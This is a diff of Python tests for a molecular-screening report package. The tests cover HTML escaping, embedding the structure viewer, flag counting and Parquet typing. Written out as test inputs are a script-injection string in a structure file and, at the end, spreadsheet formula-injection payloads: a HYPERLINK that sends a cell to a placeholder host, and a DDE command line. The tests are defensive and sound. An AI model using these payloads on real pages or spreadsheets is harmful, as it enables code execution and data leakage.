@@ -115,7 +115,7 @@ def test_parquet_has_typed_columns(tmp_path):
 
 
 def test_report_is_self_contained(tmp_path):
-    from omtx.report.html import render
+    from omtx.report.html import THREE_DMOL, Structure, render
 
     spool = Spool(tmp_path / "rows.jsonl", primary_metric="qed").fill(jobs())
     sdf = (
@@ -134,11 +134,72 @@ def test_report_is_self_contained(tmp_path):
         "primary_metric": "qed",
         "higher_is_better": True,
     }
-    page = render(header, spool.metric_stats(), spool.best(25), spool.values("qed"), [("best", "sdf", sdf)])
+    page = render(header, spool.metric_stats(), spool.best(25), spool.values("qed"), [Structure("best", "sdf", sdf)])
     assert "&lt;screen&gt;" in page and "<screen>" not in page  # escaped
-    assert "<svg" in page and 'data-format="sdf"' in page and "parseSdf" in page
-    assert "http://" not in page and "https://" not in page  # nothing to fetch
+    assert "<svg" in page and 'data-structure="s0"' in page and THREE_DMOL in page
+    # Nothing to fetch: the only URLs are in 3Dmol's code (PDB-download helpers the viewer never calls,
+    # and which the policy would block)
+    assert "http://" not in page.replace(THREE_DMOL, "") and "https://" not in page.replace(THREE_DMOL, "")
     assert page.index("lig-2") < page.index("lig-0")  # best first
+    without = render(header, spool.metric_stats(), spool.best(25), spool.values("qed"), [])
+    assert THREE_DMOL not in without and "No structures were produced" in without  # no viewer without structures
+
+
+def test_structure_text_survives_the_page_exactly(tmp_path):
+    """mmCIF quotes names ('CCD Core', O5'): the JSON block the viewer reads gives back the exact
+    text, and a structure holding `</script>` cannot end the block."""
+    import re
+
+    from omtx.report.html import Structure, render
+
+    text = "data_x\n_chem_comp.name 'L-peptide linking' O5' & </script><script>window.pwned=1</script>\n"
+    header = {"batch_id": "b", "model": "m", "model_version": "v", "status": "completed"}
+    header |= {"succeeded": 1, "failed": 0, "total": 1, "primary_metric": "qed"}
+    page = render(header, {}, [], [], [Structure("t", "cif", text)])
+    block = re.search(r'<script type="application/json" id="s0">(.*?)</script>', page, re.S)
+    assert block is not None and json.loads(block.group(1))["text"] == text
+
+
+def test_flags_are_counted_and_kept_fields_ride_with_the_best(tmp_path):
+    spool = Spool(tmp_path / "rows.jsonl", primary_metric="qed", keep=("pb_valid", "pb_failed")).fill(
+        [
+            make_job(0, JobStatus.SUCCEEDED, qed=0.5, pb_valid=True, pb_failed=[]),
+            make_job(1, JobStatus.SUCCEEDED, qed=0.7, pb_valid=False, pb_failed=["bond_lengths"]),
+            make_job(2, JobStatus.SUCCEEDED, qed=0.9, pb_valid=True, pb_failed=[]),
+            make_job(3, JobStatus.FAILED),  # no pose: not in the fraction
+        ]
+    )
+    assert spool.flag_counts()["pb_valid"] == {"n": 3, "true": 2, "fraction_true": 0.6667}
+    assert "pb_valid" not in spool.metric_stats()  # flags are counted, not averaged
+    best = spool.best()
+    assert [(b["index"], b["pb_valid"], b["pb_failed"]) for b in best] == [
+        (2, True, []),
+        (1, False, ["bond_lengths"]),
+        (0, True, []),
+    ]
+
+
+def test_pose_check_columns_are_typed_in_parquet(tmp_path):
+    import pyarrow.parquet as pq
+
+    spool = Spool(tmp_path / "rows.jsonl").fill(
+        [
+            make_job(0, JobStatus.SUCCEEDED, vina_score=-7.0, pb_valid=True, pb_failed=[]),
+            make_job(
+                1, JobStatus.SUCCEEDED, vina_score=-6.0, pb_valid=False, pb_failed=["volume_overlap_with_protein"]
+            ),
+            make_job(2, JobStatus.FAILED),
+        ]
+    )
+    *_, path = export(spool, tmp_path)
+    table = pq.read_table(path)
+    assert str(table.schema.field("pb_valid").type) == "bool"  # a plain boolean column to filter on
+    assert table.column("pb_valid").to_pylist() == [True, False, None]
+    assert [json.loads(v) if v else v for v in table.column("pb_failed").to_pylist()] == [
+        [],
+        ["volume_overlap_with_protein"],
+        None,
+    ]
 
 
 FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "@SUM(1+1)", '+cmd|" /C calc"!A0', "-2+3", "\tx", "\rx"]
